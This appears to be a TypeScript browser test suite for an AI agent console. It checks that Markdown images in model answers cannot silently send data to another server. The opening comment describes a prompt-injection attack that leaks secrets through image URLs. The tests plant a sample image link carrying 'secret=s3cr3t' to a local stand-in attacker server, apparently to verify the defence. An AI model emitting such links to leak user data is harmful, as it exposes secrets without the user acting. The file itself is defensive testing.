import { existsSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { type Browser, chromium } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ConsoleService, startConsoleService } from "./console-fixture.js";

/**
 * Zero-click exfiltration: a prompt injection makes the model answer with an image whose URL holds
 * a secret; a page that renders it sends the secret to that server without the user doing
 * anything. The console must make no request to another server until the user clicks.
 */

const CHROMIUM = "/usr/bin/chromium";
const required = process.env.AGENTSCOPE_REQUIRE_SERVICES === "1";
const available = existsSync(CHROMIUM);
if (!available && !required)
  process.stderr.write(`console image tests skipped: ${CHROMIUM} is missing (apt-get install -y chromium)\n`);

const PIXEL = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
  "base64",
);

describe.skipIf(!available && !required)("console images in headless Chromium", () => {
  let service: ConsoleService;
  let browser: Browser;
  let attacker: Server;
  let attackerBase: string;
  /** Paths requested from the other server, in order. */
  const requests: string[] = [];

  beforeAll(async () => {
    service = await startConsoleService();
    attacker = createServer((req, res) => {
      requests.push(req.url ?? "");
      res.writeHead(200, { "content-type": "image/png" });
      res.end(PIXEL);
    });
    await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", () => resolve()));
    attackerBase = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ["--no-sandbox", "--headless", "--disable-gpu", "--disable-background-networking"],
    });
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    await service?.close();
    attacker?.closeAllConnections();
    await new Promise<void>((resolve) => (attacker ? attacker.close(() => resolve()) : resolve()));
  });

  it("the console's HTML carries a CSP that allows images only from itself, data: and blob:", async () => {
    const response = await fetch(`${service.base}/`);
    const csp = response.headers.get("content-security-policy") ?? "";
    const imgSrc = csp
      .split(";")
      .map((d) => d.trim())
      .find((d) => d.startsWith("img-src"));
    expect(imgSrc).toBe("img-src 'self' data: blob:");
    expect(csp).toContain("default-src 'self'");
    expect(csp).toContain("connect-src 'self'");
  });

  it("an answer with ![x](remote) requests nothing until the user clicks the link it became", async () => {
    // CSP bypassed: the rendering itself must not load it (the header is checked above, separately).
    const context = await browser.newContext({ bypassCSP: true });
    const page = await context.newPage();
    const consoleErrors: string[] = [];
    page.on("console", (message) => {
      if (message.type() === "error") consoleErrors.push(message.text());
    });
    await page.goto(service.base);
    await page.waitForSelector("#composer");
    requests.length = 0;
    const remote = `${attackerBase}/pixel.png?secret=s3cr3t`;
    // The fixture's model echoes the message: its answer is Markdown with the remote image in it.
    await page.fill(
      "#input",
      `look ![x](${remote}) and ![local](data:image/png;base64,${PIXEL.toString("base64")})`,
    );
    await page.press("#input", "Enter");
    const answer = page.locator(".msg.assistant .markdown").last();
    await page.waitForFunction(() =>
      document.querySelector(".msg.assistant .markdown")?.textContent?.includes("look"),
    );
    await page.waitForSelector("body[data-phase='idle']");
    // Give a stray load every chance to happen: the page has settled and the network is idle.
    await page.waitForLoadState("networkidle");
    expect(requests).toEqual([]);
    expect(
      await answer.locator("img").evaluateAll((imgs) => imgs.map((i) => (i as HTMLImageElement).src)),
    ).toEqual([`data:image/png;base64,${PIXEL.toString("base64")}`]);
    const link = answer.locator("a.remote-image");
    expect(await link.getAttribute("href")).toBe(remote);
    expect(await link.getAttribute("rel")).toContain("noreferrer");
    expect(await link.textContent()).toContain("click to open");
    expect(consoleErrors.filter((e) => e.includes("Content Security Policy"))).toEqual([]); // nothing even tried

    // The user decides to look: only now is the image requested (in a new tab).
    const opened = context.waitForEvent("page");
    await link.click();
    const tab = await opened;
    await tab.waitForLoadState();
    expect(requests[0]).toBe("/pixel.png?secret=s3cr3t");
    expect(requests.slice(1).filter((path) => path !== "/favicon.ico")).toEqual([]); // the new tab's icon
    await context.close();
  });

  it("an image data block with a remote URL is a link too; one from the console's own origin shows inline", async () => {
    const session = await service.runtime.createSession("local", { title: "images" });
    const input = [
      {
        id: "m-images",
        name: "user",
        role: "user",
        createdAt: new Date().toISOString(),
        metadata: {},
        content: [
          { type: "text", id: "t-images", text: "two pictures" },
          {
            type: "data",
            id: "d-remote",
            name: "remote.png",
            source: { type: "url", url: `${attackerBase}/block.png`, mediaType: "image/png" },
          },
          {
            type: "data",
            id: "d-local",
            name: "local.png",
            source: {
              type: "url",
              url: `${service.base}/favicon-that-is-not-there.png`,
              mediaType: "image/png",
            },
          },
        ],
      },
    ];
    await service.runtime.startReply("local", session.sessionId, input as never).then((run) => run.done);
    const context = await browser.newContext({ bypassCSP: true });
    const page = await context.newPage();
    requests.length = 0;
    await page.goto(service.base);
    await page.click(`li.session[data-id="${session.sessionId}"] .session-pick`);
    const message = page.locator(".msg.user").first();
    await message.locator("img.media, a.remote-image").first().waitFor();
    await page.waitForLoadState("networkidle");
    expect(requests).toEqual([]);
    expect(await message.locator("a.remote-image").getAttribute("href")).toBe(`${attackerBase}/block.png`);
    expect(await message.locator("img.media").getAttribute("src")).toBe(
      `${service.base}/favicon-that-is-not-there.png`,
    );
    await context.close();
  });
});
